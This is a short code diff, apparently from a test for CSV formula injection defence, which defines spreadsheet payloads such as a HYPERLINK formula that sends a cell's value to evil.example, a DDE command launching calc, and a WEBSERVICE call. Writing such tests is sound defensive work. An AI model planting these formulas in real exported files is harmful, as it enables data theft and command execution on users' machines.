@@ -6,7 +6,7 @@ import { unzip } from '../lib/zip-file.mjs';
 /** Starts that make a spreadsheet program compute, dial out or run something (OWASP CSV injection; ASVS 1.2.10). */
 const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''+", '=-+@'];
 const bodies = ['HYPERLINK("http://evil.example/?"&A1,"bấm")', "cmd|' /C calc'!A0", '1+1', 'SUM(A1:A9)', 'WEBSERVICE("http://evil.example")', ' phẩy, chấm; "nháy"'];
-const computing = /^[=+\-@\t\r\n\u0000＝＋－＠]/u; // eslint-disable-line no-control-regex
+const computing = /^[=+\-@\t\r\n\u0000＝＋－＠]/u;
 
 /** RFC 4180, written apart from the product's own reader. */
 function csvRecords(text) {
